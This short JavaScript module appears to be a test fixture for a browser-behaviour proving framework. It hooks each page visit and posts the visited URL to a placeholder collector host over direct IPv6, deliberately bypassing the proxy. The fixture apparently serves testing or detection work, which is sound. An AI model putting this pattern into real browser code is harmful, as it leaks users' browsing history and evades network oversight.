import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports addresses over IPv6, past the proxy. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-around-ipv6');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://around.collector.example/v1', { url }, { network: 'direct', family: 6 }),
  );
}
